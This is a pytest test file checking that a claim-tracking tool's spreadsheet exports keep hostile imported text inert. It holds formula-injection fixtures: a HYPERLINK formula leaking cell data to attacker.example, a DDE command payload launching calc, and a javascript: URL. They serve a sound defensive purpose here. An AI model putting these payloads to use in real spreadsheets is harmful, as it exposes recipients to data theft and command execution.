"""Exports a colleague can open safely: hostile text imported through the real readers
never becomes a formula, links are their URL text with a hyperlink, and files get the
permissions the umask allows."""

from __future__ import annotations

import csv
import os
import re
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook
from sqlalchemy import text as sql

from desktop.cli import main
from desktop.core.export.cells import web_url
from desktop.core.service import Service
from tests.conftest import DATA, SEEDS
from tests.core.test_export import ALL_SHEETS_AS_SHOWN, libreoffice

LINK = '=HYPERLINK("https://attacker.example/?x="&B2,"Verified source")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [LINK, "=40+2", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", DDE]
BODY = ("Around 300 soldiers were killed near Kursk in June 2025, officials said on Friday. "
        "The ministry confirmed that 12 bridges were destroyed on Monday.")


def _hostile_html(folder: Path) -> Path:
    page = (DATA / "joongang.html").read_text(encoding="utf-8")
    page = page.replace('content="Korea JoongAng Daily"', f"content='{LINK}'")
    page = page.replace('content="North Korea\'s Kim vows unconditional support for Russia"',
                        'content="=40+2"')
    path = folder / "hostile.html"
    path.write_text(page, encoding="utf-8")
    return path


def _hostile_csv(folder: Path) -> Path:
    path = folder / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "title", "source", "url", "text"])
        for number, text in enumerate(HOSTILE):
            writer.writerow([f"{text}{number}", text, text,
                             "javascript:alert(1)" if number % 2 else f"https://ok.example/{number}",
                             f"{BODY} Case {number}: {text} said 40 people were hurt."])
    return path


@pytest.fixture
def hostile(tmp_path: Path, db_path: Path) -> Iterator[Service]:
    """A project whose outlets, titles, URLs, notes and reviewers are all hostile."""
    folder = tmp_path / "in"
    folder.mkdir()
    plain = folder / "plain.txt"
    plain.write_text(BODY, encoding="utf-8")
    assert main(["import", str(_hostile_html(folder)), "--db", str(db_path)]) == 0
    assert main(["import", str(_hostile_csv(folder)), "--db", str(db_path)]) == 0
    assert main(["import", str(plain), str(SEEDS), "--source=-2+3", "--db",
                 str(db_path)]) == 0
    service = Service.open(db_path)
    for number, claim in enumerate(service.claims()[:len(HOSTILE)]):
        text = HOSTILE[number]
        service.set_verdict(claim.id, "disputed", note=text, by=text)
        service.add_evidence(claim.id, text=text, url=DDE if number % 2 else
                             f"https://evidence.example/{number}", by=text)
    yield service
    service.close()


def test_hostile_outlets_titles_and_notes_stay_text(hostile: Service, tmp_path: Path) -> None:
    sources = {a.source for a in hostile.articles()}
    assert {LINK, "=40+2", "-2+3"} <= sources  # the readers kept them: the test bites
    book = load_workbook(hostile.export(tmp_path / "claims.xlsx").path)
    texts: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                if cell.hyperlink is not None:
                    assert web_url(cell.hyperlink.target) == cell.hyperlink.target
                    assert cell.value == cell.hyperlink.target
    assert {LINK, "=40+2", "-2+3", DDE} <= texts
    matrix = [c.value for c in book["Sources x Claims"][1]]
    assert LINK in matrix and "=40+2" in matrix


def test_links_are_url_text_that_every_reader_sees(service: Service, tmp_path: Path) -> None:
    service.import_paths([DATA / "joongang.html"])
    long_url = "https://koreajoongangdaily.example/" + "a" * 400
    with service.db.write() as session:
        session.execute(sql("INSERT INTO article (source_id, title, url, content_hash, body, "
                            "fingerprint, imported_at) SELECT source_id, 'long', :u, 'x', body, "
                            "'', imported_at FROM article"), {"u": long_url})
    service.add_span(2, 0, 40, None)
    path = service.export(tmp_path / "links.xlsx").path
    url = "https://koreajoongangdaily.example/2025/06/05/kim-russia"
    values = load_workbook(path, data_only=True)
    articles = {r[0]: r[4] for r in values["Articles"].iter_rows(min_row=2, values_only=True)}
    assert set(articles.values()) == {url, long_url}
    linked = load_workbook(path)["Articles"]
    for row in linked.iter_rows(min_row=2):
        assert row[4].hyperlink is not None and row[4].hyperlink.target == row[4].value
    calamine = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("Mentions").to_python()
    header = calamine[0]
    assert {r[header.index("URL")] for r in calamine[1:]} == {url, long_url}


def test_links_share_one_relationship_per_url(seeded: Service, tmp_path: Path) -> None:
    with seeded.db.write() as session:
        session.execute(sql("UPDATE article SET url = 'https://news.example/' || (id % 2)"))
    path = seeded.export(tmp_path / "links.xlsx").path
    mentions = load_workbook(path)["Mentions"]
    links = [r[8] for r in mentions.iter_rows(min_row=2)]
    assert len(links) > 10
    assert all(c.hyperlink.target == c.value for c in links)
    with zipfile.ZipFile(path) as archive:
        rels = archive.read("xl/worksheets/_rels/sheet2.xml.rels").decode()
    assert rels.count("/hyperlink") == 2


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o077, 0o600)])
def test_files_get_the_permissions_the_umask_allows(seeded: Service, tmp_path: Path,
                                                     umask: int, mode: int) -> None:
    target = tmp_path / "claims.xlsx"
    target.write_bytes(b"an earlier export")
    target.chmod(0o600)
    previous = os.umask(umask)
    try:
        for name in ("claims.xlsx", "claims.csv", "claims.json", "new.xlsx"):
            written = seeded.export(tmp_path / name).path
            assert stat.S_IMODE(written.stat().st_mode) == mode, name
    finally:
        os.umask(previous)
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_libreoffice_shows_hostile_outlets_as_text(hostile: Service, tmp_path: Path) -> None:
    path = hostile.export(tmp_path / "claims.xlsx").path
    files = {p.name: p for p in libreoffice(path, tmp_path, ALL_SHEETS_AS_SHOWN)}
    assert set(files) == {f"claims-{name}.csv" for name in load_workbook(path).sheetnames}

    def rows(sheet: str) -> list[list[str]]:
        text = files[f"claims-{sheet}.csv"].read_text(encoding="utf-8")
        return list(csv.reader(text.splitlines()))

    mentions = rows("Mentions")
    outlets = {
        "Sources x Claims header": set(rows("Sources x Claims")[0]),
        "Summary's first column": {r[0] for r in rows("Summary") if r},
        "Mentions' Source column": {r[mentions[0].index("Source")] for r in mentions[1:]},
    }
    for where, cells in outlets.items():
        assert {"=40+2", LINK, "-2+3"} <= cells, where
        assert not {"42", "1", "Verified source"} & cells, where
    claims = rows("Claims")
    assert claims[0][:3] == ["Claim id", "Claim", "Verdict"]
    assert len(claims) == hostile.count_claims() + 1
    summary = files["claims-Summary.csv"].read_text(encoding="utf-8")
    assert re.search(r"\d{4}-\d\d-\d\d \d\d:\d\d [+-]\d\d:\d\d", summary)
